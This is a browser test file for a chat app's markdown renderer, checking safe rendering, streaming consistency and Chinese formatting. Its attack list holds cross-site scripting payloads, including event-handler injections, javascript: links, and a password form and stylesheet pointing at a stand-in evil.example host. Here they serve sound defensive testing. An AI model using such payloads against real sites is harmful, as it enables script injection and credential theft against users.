"""Markdown of answers in the real browser: harmless, and the same however it arrives."""

import random
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.browser.bare_site import bare_site
from tests.browser.words import EN

ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1' id=hit>x</a>",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x](&#106;avascript:window.pwned=1)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    '[x](https://a.example/" onmouseover="window.pwned=1)',
    "![x](https://tracker.example/pixel.png)",
    "![x](x 'y' onerror=window.pwned=1)",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src onerror=window.pwned=1>",
    "`<img src onerror=window.pwned=1>`",
    "```html\n<script>window.pwned=1</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    '<div style="position:fixed;inset:0">over everything</div>',
    "<https://ok.example/><b onclick=window.pwned=1>b</b>",
]

ANSWERS = Path(__file__).with_name("answers.md").read_text().split("\n%%%\n")

_STREAM = """
async ([text, cuts]) => {
  const { createStream } = await import("/chat/stream.js");
  const { renderMarkdown } = await import("/chat/markdown.js");
  const frame = () => new Promise((done) => requestAnimationFrame(done));
  const grown = document.createElement("div");
  const stream = createStream(grown, { tableLabel: "t" });
  for (const cut of cuts) {
    stream.update(text.slice(0, cut));
    await frame();
  }
  stream.finish(text);
  const whole = document.createElement("div");
  whole.append(renderMarkdown(text, { tableLabel: "t" }));
  return [grown.innerHTML, whole.innerHTML];
}
"""

_RENDER = """
async (text) => {
  const { renderMarkdown } = await import("/chat/markdown.js");
  const box = document.createElement("div");
  document.body.append(box);
  box.append(renderMarkdown(text, { tableLabel: "t" }));
  return box.innerHTML;
}
"""

# By then the attacks, which came first, have had their turn.
_UNTIL_A_BROKEN_IMAGE_IS_TOLD = """
() => new Promise((done) => {
  const image = new Image();
  image.onerror = done;
  image.src = "data:image/png,broken";
}).then(() => null)
"""


@pytest.fixture
def bare(new_page) -> Page:
    """An empty page beside the modules."""
    with bare_site() as url:
        page = new_page(EN)
        page.route("**/*.example/**", lambda route: route.abort())
        page.goto(f"{url}/en")
        yield page


@pytest.fixture
def render(bare) -> Callable[[str], str]:
    return lambda text: bare.evaluate(_RENDER, text)


def test_no_attack_gets_through(bare, render):
    for attack in ATTACKS:
        render(attack)
    bare.mouse.move(50, 50)
    for link in bare.locator("a").all():
        assert link.get_attribute("href").startswith(("http", "mailto:"))
    bare.evaluate(_UNTIL_A_BROKEN_IMAGE_IS_TOLD)
    found = bare.evaluate(
        """() => {
          const all = [...document.body.querySelectorAll("*")];
          return {
            pwned: window.pwned,
            tags: all.map((element) => element.localName),
            attributes: all.flatMap((element) => element.getAttributeNames()),
          };
        }"""
    )
    assert found.get("pwned") is None
    forbidden = {"script", "img", "svg", "iframe", "style", "form", "input", "math", "b"}
    assert not forbidden & set(found["tags"])
    assert not [name for name in found["attributes"] if name.startswith("on") or name == "style"]


def test_links_open_elsewhere_and_give_nothing_away(bare, render):
    render("[MIT](https://mit.edu)")
    link = bare.locator("a")
    assert link.get_attribute("target") == "_blank"
    assert link.get_attribute("rel") == "noopener noreferrer"


def test_an_answer_grown_piece_by_piece_is_the_same_as_the_whole(bare):
    dice = random.Random(7)
    for text in ANSWERS:
        every = list(range(1, len(text) + 1))
        for cuts in (every[::3], sorted(dice.sample(every, 8))):
            grown, whole = bare.evaluate(_STREAM, [text, cuts])
            assert grown == whole


def test_finished_blocks_are_not_made_again(bare):
    kept = bare.evaluate(
        """async () => {
          const { createStream } = await import("/chat/stream.js");
          const box = document.createElement("div");
          const stream = createStream(box);
          const frame = () => new Promise((done) => requestAnimationFrame(done));
          stream.update("First **block**.\\n\\nSecond");
          await frame();
          const first = box.firstElementChild;
          stream.update("First **block**.\\n\\nSecond goes on.\\n\\n- third");
          await frame();
          stream.finish("First **block**.\\n\\nSecond goes on.\\n\\n- third");
          return first === box.firstElementChild && box.children.length === 3;
        }"""
    )
    assert kept


@pytest.mark.parametrize(
    ("tail", "shown"),
    [
        ("half **bold", "half **bold**"),
        ("half `code", "half `code`"),
        ("see [the site](https://mi", "see the site"),
        ("see [the si", "see the si"),
        ("stars **", "stars "),
        ("| a | b |\n|---|---|\n", ""),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n| 3", "| a | b |\n|---|---|\n| 1 | 2 |"),
        ("```\n| code **", "```\n| code **"),
        ("text\n| a |", "text"),
    ],
)
def test_unfinished_marks_do_not_flash(bare, tail, shown):
    tidied = bare.evaluate("async (tail) => (await import('/chat/stream.js')).tidyTail(tail)", tail)
    assert tidied == shown


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**录取率：**约 5%", "<p><strong>录取率：</strong>约 5%</p>"),
        ("请看**（ED）**这一轮", "<p>请看<strong>（ED）</strong>这一轮</p>"),
        ("3 * 4 * 5", "<p>3 * 4 * 5</p>"),
        ("snake_case_name", "<p>snake_case_name</p>"),
        ("# 大标题", "<h3>大标题</h3>"),
    ],
)
def test_chinese_typography(render, text, html):
    assert render(text).strip() == html
